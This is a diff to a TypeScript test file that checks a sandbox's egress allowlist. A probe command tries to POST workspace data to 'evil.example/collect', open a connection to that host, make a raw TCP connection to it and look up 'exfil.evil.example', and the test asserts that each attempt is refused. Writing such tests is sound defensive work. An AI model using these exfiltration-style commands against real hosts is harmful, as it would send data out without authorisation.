@@ -1,9 +1,10 @@
 import { execFile } from 'node:child_process';
-import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { chmod, copyFile, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { collector, serving, startEgressWorld } from '../../support/egress/world';
 import { git } from '../../support/git-cli';
 
 const exec = promisify(execFile);
@@ -54,9 +55,9 @@ describe('the sandbox when crew runs as a non-root user with passwordless sudo (
   });
 
   /** crew's process as the runner user, holding the secrets in its initial environment, runs one command through its runner. */
-  async function probe(mode: 'sandboxed' | 'unsandboxed', command: string): Promise<string> {
+  async function probe(mode: 'sandboxed' | 'unsandboxed' | 'allowlist', command: string, extra: Record<string, string> = {}): Promise<string> {
     const script = join(__dirname, '..', '..', 'support', 'sandbox', 'probe.ts');
-    const env = { PATH: process.env.PATH ?? '', HOME: `/home/${RUNNER_USER}`, ...CANARIES };
+    const env = { PATH: process.env.PATH ?? '', HOME: `/home/${RUNNER_USER}`, ...CANARIES, ...extra };
     const { stdout } = await exec(
       'setpriv',
       [`--reuid=${RUNNER_USER}`, `--regid=${RUNNER_USER}`, '--init-groups', process.execPath, '--import', 'tsx', script, mode, workspace, dir, command],
@@ -75,6 +76,41 @@ describe('the sandbox when crew runs as a non-root user with passwordless sudo (
     for (const value of Object.values(CANARIES)) expect(out).not.toContain(value);
     expect(out).toContain('no-sudo');
     expect(out).not.toContain('HAS-SUDO');
+  });
+
+  it('with the egress allowlist on: a command reaches an allowed host by name through crew’s proxy, run as that user, and nothing else', async () => {
+    const world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes'), 'evil.example': collector });
+    try {
+      await copyFile(join(__dirname, '..', '..', 'support', 'egress', 'net-probe.cjs'), join(workspace, 'net-probe.cjs'));
+      await chmod(join(workspace, 'net-probe.cjs'), 0o644);
+      const evil = world.hosts.get('evil.example')!.address;
+      const out = await probe(
+        'allowlist',
+        `id -un; node net-probe.cjs 'get|http://files.acme.test/data.txt' 'post|http://evil.example/collect|tree' 'connect|evil.example:443' 'tcp|${evil}|80' 'lookup|exfil.evil.example'; ${LOOK}`,
+        { CREW_PROBE_ALLOW: 'files.acme.test', ...world.env },
+      );
+      const tries = Object.fromEntries(
+        out
+          .split('\n')
+          .filter((l) => l.startsWith('{'))
+          .map((l) => JSON.parse(l) as { what: string })
+          .map((o) => [o.what, o as Record<string, unknown>]),
+      );
+      expect(out.split('\n')[0]).toBe('crew-tool');
+      expect(tries['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
+      expect(tries['post|http://evil.example/collect|tree']).toMatchObject({ status: 403 });
+      expect(tries['connect|evil.example:443']).toMatchObject({ status: 403 });
+      expect(tries[`tcp|${evil}|80`]!.connected).toBeUndefined();
+      expect(tries['lookup|exfil.evil.example']!.error).toBeTruthy();
+      expect(world.hosts.get('evil.example')!.reached).toEqual([]);
+      expect(world.queries).toEqual(['files.acme.test']);
+      expect(JSON.parse(/::refused (.*)/.exec(out)![1]!)).toEqual({ 'evil.example': 2 });
+      // The rest of the sandbox holds as without the allowlist.
+      for (const value of Object.values(CANARIES)) expect(out).not.toContain(value);
+      expect(out).toContain('no-sudo');
+    } finally {
+      await world.close();
+    }
   });
 
   it('the same command without the sandbox would have found the secrets and sudo (so the probe can tell)', async () => {
